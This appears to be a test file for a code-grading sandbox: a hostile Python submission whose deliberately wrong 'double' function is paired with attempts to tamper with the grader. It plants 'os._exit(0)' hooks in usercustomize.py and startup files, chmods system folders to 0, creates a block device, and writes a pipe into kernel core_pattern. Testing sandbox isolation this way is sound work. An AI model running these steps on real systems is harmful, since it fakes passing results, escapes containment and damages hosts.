# tries: fills what is mounted for it, changes its modes, and puts folders and devices where the grader looks
# expects: graded 0 0 0 0
import contextlib
import os

done = []
for folder in ("/", "/tmp", "/dev/shm", "/run", "/proc/self", "/sys", os.getcwd(), os.path.expanduser("~")):
    for name in ("usercustomize.py", ".ipython/profile_default/startup/0.py", ".config/pip/pip.conf", "core"):
        with contextlib.suppress(OSError):
            path = os.path.join(folder, name)
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as file:
                file.write("import os; os._exit(0)")
            done.append(path)
    with contextlib.suppress(OSError):
        os.chmod(folder, 0)
    with contextlib.suppress(OSError):
        os.mknod(os.path.join(folder, "device"), 0o60666, os.makedev(8, 0))
        print("GOT a device in", folder)
for name in ("core_pattern", "sysrq", "hostname"):
    with contextlib.suppress(OSError), open(f"/proc/sys/kernel/{name}", "w") as file:
        file.write("|/tmp/x")
        print("GOT", name)
print("TRIED", done)


def double(x):
    return x
